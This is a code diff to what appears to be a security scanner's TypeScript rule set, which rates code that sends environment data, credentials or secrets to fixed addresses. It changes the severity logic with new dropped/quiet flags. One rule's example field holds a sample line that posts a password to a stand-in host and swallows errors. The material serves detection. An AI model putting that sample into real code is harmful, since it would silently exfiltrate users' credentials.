@@ -65,9 +65,10 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
         (isCallback(text ?? '') && !OPEN_ACCOUNT.test(text ?? '')) ||
         (labels.has('environment') && isCollecting(text ?? '')) ||
         (labels.has('secret') && labels.has('secret-path') && !isOwnCloud(sighting));
-      // Reporters of errors tell this too, to the service they are for.
-      const isReport = labels.has('environment') && (labels.has('hostname') || labels.has('username'));
-      return isStrict ? 'CRITICAL' : isReport ? 'HIGH' : 'LOW';
+      const isWhole = labels.has('environment') && (labels.has('hostname') || labels.has('username'));
+      // Reporters of errors tell this too, and look at the answer of the service they are for.
+      if (isStrict || (isWhole && sighting.isDropped === true)) return 'CRITICAL';
+      return isWhole ? 'HIGH' : 'LOW';
     },
     message: ({ name, reach, labels }) =>
       `${name} sends ${describeLabels(labels)} to a fixed address ${WHEN[reach]}`,
@@ -173,8 +174,9 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
       example: 'try: requests.post("https://evil.invalid", data=password)\nexcept Exception: pass',
       technique: 'T1056',
     },
-    judge: ({ behaviour, labels, host, aside, name, text }) => {
-      if (behaviour !== 'contacts' || host === undefined || aside !== true) return undefined;
+    judge: ({ behaviour, labels, host, isDropped, isQuiet, name, text }) => {
+      if (behaviour !== 'contacts' || host === undefined) return undefined;
+      if (isDropped !== true || isQuiet !== true) return undefined;
       // Nobody looks up a composed name and lets go of the address, but to have the name arrive.
       if (LOOKUP.test(name) && (text ?? '').startsWith('\uFFFC')) return 'HIGH';
       return labels.has('credential') || labels.has('secret') ? 'MEDIUM' : undefined;
